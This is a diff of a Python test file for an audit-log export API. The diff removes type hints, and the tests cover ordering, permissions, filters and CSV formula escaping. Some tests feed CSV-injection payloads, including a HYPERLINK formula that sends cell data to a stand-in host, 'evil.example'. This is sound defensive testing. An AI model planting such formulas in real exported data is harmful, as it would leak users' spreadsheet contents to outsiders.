@@ -8,8 +8,6 @@ from chalicelib.kernel.execution import envelope
 from tests.harness import audit_logs, memory_aws
 from tests.harness.api import ApiClient
 from tests.harness.audit_logs import list_entries
-from tests.harness.callers import Person
-from tests.harness.clock import Clock
 from tests.harness.exports import append_entries, get_inline_export, parse_csv
 from tests.harness.invitations import create_invitation
 from tests.harness.organizations import (
@@ -18,7 +16,6 @@ from tests.harness.organizations import (
     create_api_key,
     create_organization,
 )
-from tests.harness.workers import Workers
 
 COLUMNS = (
     '"sequence","id","occurredAt","type","actorType","actorId","actorName","targetType","targetId","targetName",'
@@ -35,9 +32,7 @@ def exported_entries(api: ApiClient, organization: CreatedOrganization, **query:
 
 
 class TestExportAuditLog:
-    def test_the_file_has_a_line_for_each_entry(
-        self, api: ApiClient, organization_with_ten_entries: CreatedOrganization, clock: Clock
-    ) -> None:
+    def test_the_file_has_a_line_for_each_entry(self, api, organization_with_ten_entries, clock):
         timestamp = clock.freeze()
         response = get_inline_export(api, organization_with_ten_entries)
         assert response.headers["Content-Type"] == "application/x-ndjson"
@@ -48,9 +43,7 @@ class TestExportAuditLog:
             api, organization_with_ten_entries
         )[::-1]
 
-    def test_pending_entries_come_last(
-        self, api: ApiClient, organization_with_ten_entries: CreatedOrganization
-    ) -> None:
+    def test_pending_entries_come_last(self, api, organization_with_ten_entries):
         for name in ("First", "Second"):
             api.patch(
                 organization_with_ten_entries.path, caller=organization_with_ten_entries.owner, json={"name": name}
@@ -59,9 +52,7 @@ class TestExportAuditLog:
         assert [entry["sequence"] for entry in listed] == [*range(1, 11), None, None]
         assert [entry["data"]["name"] for entry in listed[-2:]] == ["First", "Second"]
 
-    def test_entries_are_in_the_order_of_their_sequence_despite_clock_skew(
-        self, api: ApiClient, ada: Person, clock: Clock, workers: Workers
-    ) -> None:
+    def test_entries_are_in_the_order_of_their_sequence_despite_clock_skew(self, api, ada, clock, workers):
         organization, other_organization = (
             create_organization(api, ada, name="Founded just now"),
             create_organization(api, ada, name="Other"),
@@ -76,21 +67,13 @@ class TestExportAuditLog:
         assert [entry["sequence"] for entry in exported_entries(api, organization)] == [1, 2, 3]
         assert len(exported_entries(api, other_organization)) == 1
 
-    def test_long_entries_are_complete(self, api: ApiClient, ada: Person, workers: Workers) -> None:
+    def test_long_entries_are_complete(self, api, ada, workers):
         organization = create_organization(api, ada, companyAddress="é" * 3000)
         assert exported_entries(api, organization) == list_entries(api, organization)
         workers.deliver()
         assert exported_entries(api, organization) == list_entries(api, organization)
 
-    def test_only_admins_and_keys_with_the_scope_may_export(
-        self,
-        api: ApiClient,
-        organization: CreatedOrganization,
-        grace: Person,
-        edith: Person,
-        mary: Person,
-        stranger: Person,
-    ) -> None:
+    def test_only_admins_and_keys_with_the_scope_may_export(self, api, organization, grace, edith, mary, stranger):
         assert get_inline_export(api, organization, caller=grace).status == 200
         for person in (edith, mary):
             assert get_inline_export(api, organization, caller=person).status_and_code == "403 insufficient_role"
@@ -103,14 +86,12 @@ class TestExportAuditLog:
             key = create_api_key(api, organization, scope)
             assert get_inline_export(api, organization, caller=key).status_and_code == "403 insufficient_scope"
 
-    def test_an_inline_export_is_not_logged(self, api: ApiClient, organization: CreatedOrganization) -> None:
+    def test_an_inline_export_is_not_logged(self, api, organization):
         before = list_entries(api, organization)
         get_inline_export(api, organization)
         assert list_entries(api, organization) == before
 
-    def test_an_unchanged_export_is_not_modified(
-        self, api: ApiClient, organization_with_ten_entries: CreatedOrganization
-    ) -> None:
+    def test_an_unchanged_export_is_not_modified(self, api, organization_with_ten_entries):
         etag = get_inline_export(api, organization_with_ten_entries).etag
         path, headers = f"{organization_with_ten_entries.path}/audit-log/export", {"If-None-Match": etag}
         assert api.get(path, caller=organization_with_ten_entries.owner, headers=headers).status == 304
@@ -120,16 +101,12 @@ class TestExportAuditLog:
         assert api.get(path, caller=organization_with_ten_entries.owner, headers=headers).status == 200
 
     @pytest.mark.parametrize("export_format", ["xml", "", "NDJSON", "ndjson.gz"])
-    def test_an_unknown_format_is_rejected(
-        self, api: ApiClient, organization: CreatedOrganization, export_format: str
-    ) -> None:
+    def test_an_unknown_format_is_rejected(self, api, organization, export_format):
         rejected = get_inline_export(api, organization, format=export_format)
         assert rejected.status_and_code == "422 validation_failed"
         assert set(rejected.errors) == {"query/format"}
 
-    def test_unreadable_entries_are_omitted(
-        self, api: ApiClient, organization_with_ten_entries: CreatedOrganization
-    ) -> None:
+    def test_unreadable_entries_are_omitted(self, api, organization_with_ten_entries):
         audit_logs.alter_item(audit_logs.entry_item(organization_with_ten_entries, 3), body=b"no json")
         audit_logs.alter_item(
             audit_logs.entry_item(organization_with_ten_entries, 5),
@@ -143,9 +120,7 @@ class TestExportAuditLog:
 
 
 class TestFilters:
-    def test_the_filters_match_those_of_the_list(
-        self, api: ApiClient, organization: CreatedOrganization, grace: Person, mary: Person
-    ) -> None:
+    def test_the_filters_match_those_of_the_list(self, api, organization, grace, mary):
         for n in range(3):
             api.patch(organization.path, caller=grace, json={"name": f"Name {n}"})
             api.patch(
@@ -168,36 +143,28 @@ class TestFilters:
         for query in queries:
             assert exported_entries(api, organization, **query) == list_entries(api, organization, **query)[::-1], query
 
-    def test_the_limit_of_the_list_is_ignored(
-        self, api: ApiClient, organization_with_ten_entries: CreatedOrganization
-    ) -> None:
+    def test_the_limit_of_the_list_is_ignored(self, api, organization_with_ten_entries):
         assert len(exported_entries(api, organization_with_ten_entries, limit=1)) == 10
 
     @pytest.mark.parametrize("query", [{"type": "*.member"}, {"from": "yesterday"}, {"to": "2026-11-20"}])
-    def test_an_invalid_filter_is_rejected(
-        self, api: ApiClient, organization: CreatedOrganization, query: dict[str, Any]
-    ) -> None:
+    def test_an_invalid_filter_is_rejected(self, api, organization, query):
         rejected = get_inline_export(api, organization, **query)
         assert rejected.status_and_code == "422 validation_failed"
         assert set(rejected.errors) == {f"query/{name}" for name in query}
 
-    def test_a_range_that_starts_after_its_end_is_rejected(
-        self, api: ApiClient, organization: CreatedOrganization
-    ) -> None:
+    def test_a_range_that_starts_after_its_end_is_rejected(self, api, organization):
         query: dict[str, Any] = {"from": "2026-11-20T09:30:00Z", "to": "2026-11-19T09:30:00Z"}
         rejected = get_inline_export(api, organization, **query)
         assert (rejected.status_and_code, rejected.errors) == ("422 validation_failed", {"query/from": "out_of_range"})
 
-    def test_a_target_filter_cannot_reach_another_log(self, api: ApiClient, ada: Person, stranger: Person) -> None:
+    def test_a_target_filter_cannot_reach_another_log(self, api, ada, stranger):
         other_log, own_log = create_organization(api, ada), create_organization(api, stranger)
         for value in (other_log.id, f"x#A#{other_log.id}", "{log_id}"):
             assert exported_entries(api, own_log, targetId=value) == []
 
 
 class TestCsv:
-    def test_a_csv_row_has_the_fields_of_the_ndjson_line(
-        self, api: ApiClient, organization_with_ten_entries: CreatedOrganization, grace: Person
-    ) -> None:
+    def test_a_csv_row_has_the_fields_of_the_ndjson_line(self, api, organization_with_ten_entries, grace):
         add_organization_member(organization_with_ten_entries, grace, "admin")
         response = get_inline_export(api, organization_with_ten_entries, format="csv")
         assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
@@ -221,25 +188,25 @@ class TestCsv:
     @pytest.mark.parametrize(
         "text", ["=1+1", "+1", "-1", "@A1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1", '  "=1+1', "\u200b=1"]
     )
-    def test_formulas_are_escaped(self, api: ApiClient, ada: Person, text: str) -> None:
+    def test_formulas_are_escaped(self, api, ada, text):
         organization = create_organization(api, ada, name=text, slug="engines")
         (row,) = parse_csv(get_inline_export(api, organization, format="csv").text)
         assert row["targetName"] == f"'{text.strip()}"
 
     @pytest.mark.parametrize("text", ["a;=1+1", "a|+1", 'a;"-1', "a ; @A1"])
-    def test_formulas_after_other_separators_are_escaped(self, api: ApiClient, ada: Person, text: str) -> None:
+    def test_formulas_after_other_separators_are_escaped(self, api, ada, text):
         organization = create_organization(api, ada, name=text, slug="engines")
         line = get_inline_export(api, organization, format="csv").text.splitlines()[1]
         fields = [part.lstrip(' "') for part in line.replace("|", ";").split(";")[1:]]
         assert fields
         assert not any(part.startswith(("=", "+", "-", "@")) for part in fields)
 
-    def test_a_formula_in_a_user_agent_is_escaped(self, api: ApiClient, organization: CreatedOrganization) -> None:
+    def test_a_formula_in_a_user_agent_is_escaped(self, api, organization):
         agent = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
         api.patch(organization.path, caller=organization.owner, json={"name": "B"}, headers={"User-Agent": agent})
         assert parse_csv(get_inline_export(api, organization, format="csv").text)[-1]["userAgent"] == f"'{agent}"
 
-    def test_an_empty_csv_has_the_header(self, api: ApiClient, organization: CreatedOrganization) -> None:
+    def test_an_empty_csv_has_the_header(self, api, organization):
         assert get_inline_export(api, organization, format="csv", actorId="nobody").text == f"{COLUMNS}\r\n"
 
 
@@ -250,12 +217,10 @@ class TestTooLargeExports:
         assert reason in rejected.json["detail"]
         assert f"POST {organization.path}/audit-log/export-async" in rejected.json["detail"]
 
-    def test_the_limits_are_those_of_the_contract(self) -> None:
+    def test_the_limits_are_those_of_the_contract(self):
         assert (inline_export.MAX_ENTRIES, inline_export.MAX_BYTES) == (10_000, 5_000_000)
 
-    def test_too_many_entries_are_rejected(
-        self, api: ApiClient, organization_with_ten_entries: CreatedOrganization, monkeypatch: pytest.MonkeyPatch
-    ) -> None:
+    def test_too_many_entries_are_rejected(self, api, organization_with_ten_entries, monkeypatch):
         monkeypatch.setattr(inline_export, "MAX_ENTRIES", 10)
         assert len(exported_entries(api, organization_with_ten_entries)) == 10
         api.patch(
@@ -265,9 +230,7 @@ class TestTooLargeExports:
         assert len(exported_entries(api, organization_with_ten_entries, type="organization.updated")) == 10
 
     @pytest.mark.parametrize("char_count", [100, 6_000])
-    def test_too_many_bytes_are_rejected(
-        self, api: ApiClient, ada: Person, monkeypatch: pytest.MonkeyPatch, char_count: int
-    ) -> None:
+    def test_too_many_bytes_are_rejected(self, api, ada, monkeypatch, char_count):
         organization = create_organization(api, ada)
         append_entries(organization.id, 30, char_count)
         size = len(get_inline_export(api, organization).text.encode())
@@ -277,9 +240,7 @@ class TestTooLargeExports:
             monkeypatch.setattr(inline_export, "MAX_BYTES", max_bytes)
             self.assert_too_large(api, organization, f"more than {max_bytes:,} bytes")
 
-    def test_escaped_characters_count_with_their_encoded_size(
-        self, api: ApiClient, ada: Person, monkeypatch: pytest.MonkeyPatch
-    ) -> None:
+    def test_escaped_characters_count_with_their_encoded_size(self, api, ada, monkeypatch):
         organization = create_organization(api, ada, name="🚂" * 200, slug="trains")
         text = get_inline_export(api, organization).text
         monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)) + 10_000)
@@ -287,9 +248,7 @@ class TestTooLargeExports:
         monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)))
         self.assert_too_large(api, organization, "than a response can be")
 
-    def test_a_filter_that_matches_few_entries_has_a_query_limit(
-        self, api: ApiClient, ada: Person, grace: Person, monkeypatch: pytest.MonkeyPatch
-    ) -> None:
+    def test_a_filter_that_matches_few_entries_has_a_query_limit(self, api, ada, grace, monkeypatch):
         organization = create_organization(api, ada)
         add_organization_member(organization, grace, "admin")
         append_entries(organization.id, 250, 6_000)
@@ -300,9 +259,7 @@ class TestTooLargeExports:
         self.assert_too_large(api, organization, "too long to be searched", type="organization.invitation.*")
         assert len(exported_entries(api, organization, type="organization.invitation.accepted")) == 1
 
-    def test_reading_stops_once_the_limit_is_exceeded(
-        self, api: ApiClient, ada: Person, monkeypatch: pytest.MonkeyPatch
-    ) -> None:
+    def test_reading_stops_once_the_limit_is_exceeded(self, api, ada, monkeypatch):
         organization = create_organization(api, ada)
         append_entries(organization.id, 400, 6_000)
         monkeypatch.setattr(inline_export, "MAX_BYTES", 50_000)
